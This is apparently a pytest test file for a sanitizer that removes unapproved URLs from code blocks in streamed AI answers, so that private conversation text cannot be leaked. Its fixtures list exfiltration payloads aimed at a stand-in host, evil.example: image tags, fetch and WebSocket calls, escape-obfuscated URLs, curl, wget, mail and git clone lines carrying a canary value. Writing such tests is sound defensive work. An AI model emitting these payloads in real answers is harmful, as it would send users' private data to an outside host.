"""With private text in the conversation, code has no address that was not given; a warning names no more than its host."""

from __future__ import annotations

import pytest

from nexi.answers.safe_markdown import find_exits, name_hosts
from nexi.answers.streaming import AnswerStream, make_safe

GIVEN = "https://given.example/b"
EVIL = "evil.example/p.png?d=CANARY"
CODE = [
    f'```html\n<img src="http://{EVIL}"><script>fetch("http://{EVIL}")</script>\n```\n',
    f"```svg\n<svg xmlns='http://www.w3.org/2000/svg'><image href='//{EVIL}'/></svg>\n```\n",
    f"```mermaid\ngraph LR\nA[\"<img src='https://{EVIL}'/>\"]\n```\n",
    f"~~~~ python\nrequests.get('https://{EVIL}')\n~~~~\n",
    f"`````\n```\nhttps://{EVIL}\n```\n`````\n",
    f"```js\nfetch('https:\\/\\/{EVIL}'); new WebSocket('wss://{EVIL}')\n```\n",
    f"```js\nfetch('\\x68ttps://{EVIL}'); fetch('\\u{{68}}ttps:\\u002f/{EVIL}')\n```\n",
    f"```html\n<img src='ht&#116;ps&colon;//{EVIL}'><img src='/\\{EVIL}'>\n```\n",
    f"```html\n<img src='https:{EVIL}'><img src='https:/{EVIL}'>\n```\n",
    f"```sh\ncurl www.{EVIL}; mail CANARY@evil.example; git clone ssh://git@{EVIL}\n```\n",
    f"```https://{EVIL}\nx\n```\n",
    f"- item\n\n  ```html\n  <img src=//{EVIL}>\n  ```\n",
    f"1. item\n   ~~~html\n   <img src=//{EVIL}>\n   ~~~\n",
    f"> ```html\n> <img src='//{EVIL}'>\n> ```\n",
    f"- > ```html\n  > <img src='//{EVIL}'>\n  > ```\n",
    f"Text.\n\n    curl https://{EVIL}\n\n\tcurl https://{EVIL}\n",
    f"Run `curl https://{EVIL}` and ``wget //{EVIL} ` now``.\n",
    f"| a | b |\n|---|---|\n| `https://{EVIL}` | x |\n",
]


@pytest.mark.parametrize("size", [1, 2, 7, 64, 10_000])
@pytest.mark.parametrize("text", CODE)
def test_no_code_carries_an_address_that_was_not_given(text: str, size: int) -> None:
    for around in (text, f"Lemurs sleep [1].\n\n{text}\nThey wake [1].", f"{'Lemurs sleep [1]. ' * 150}\n\n{text}"):
        shown = stream(around, size).finish()
        assert (EVIL in shown, find_exits(shown, places, guards_code=True)) == (False, set()), shown
    assert EVIL not in make_safe(text, places)


def test_the_rest_of_the_code_stays() -> None:
    code = f"```python\nimport httpx  # the client\nbase = '{GIVEN}'\nhttpx.get('https://{EVIL}')\nrows[1, 2] = a // b\n```"
    check = stream(code, 5)
    expected = (
        f"```python\nimport httpx  # the client\nbase = '{GIVEN}'\nhttpx.get('[address removed]')\nrows[1, 2] = a // b\n```"
    )
    assert (check.finish(), name_hosts(check.removed)) == (expected, ["evil.example"])


@pytest.mark.parametrize(
    "code",
    ["a = b//c", "re.match(r'\\\\d+//', x)", "path = 'C:\\\\Users\\\\x'", "npm i react@18.2.0", "docker run -v data:/data x",
     "//comment", "@app.route('/x/y')", "{http: true}", "s = x[1:]/2", "import a from '../b/c'"],
)  # fmt: skip
def test_what_is_no_address_stays_in_code(code: str) -> None:
    assert stream(f"```\n{code}\n```", 3).finish() == f"```\n{code}\n```"


def test_without_private_text_code_stays_as_it_was_written() -> None:
    code = f"```sh\ncurl https://{EVIL}\n```"
    check = AnswerStream({1}, place=places)
    check.feed(code)
    assert check.finish() == code


@pytest.mark.parametrize("code", ["fetch(['ht', 'tps:', '//ev', 'il.example'].join(''))", "ping evil.example"])
def test_an_address_that_code_puts_together_and_a_host_without_a_scheme_are_not_recognised(code: str) -> None:
    assert stream(f"```\n{code}\n```", 3).finish() == f"```\n{code}\n```"


def test_a_long_line_of_code_hides_no_address_where_it_is_cut() -> None:
    line = f"{'x' * 19_990} https://{EVIL} {'y' * 25_000}https://{EVIL}"
    assert "CANARY" not in stream(f"```\n{line}\n```", 4_000).finish()


@pytest.mark.parametrize(
    ("target", "hosts"),
    [
        (f"http://{EVIL}", ["evil.example"]),
        ("https://canary-deadbeef.evil.example/x", ["evil.example"]),
        ("CANARY@evil.example", ["evil.example"]),
        ('<img src="//evil.example/CANARY">', ["evil.example"]),
        ("too much markup", []),
    ],
)
def test_a_warning_names_the_end_of_the_host_and_no_more(target: str, hosts: list[str]) -> None:
    assert name_hosts({target}) == hosts


def places(url: str) -> int | None:
    return 0 if url == GIVEN else None


def stream(text: str, size: int) -> AnswerStream:
    check = AnswerStream({1}, place=places, guards_code=True)
    for start in range(0, len(text), size):
        check.feed(text[start : start + size])
    return check
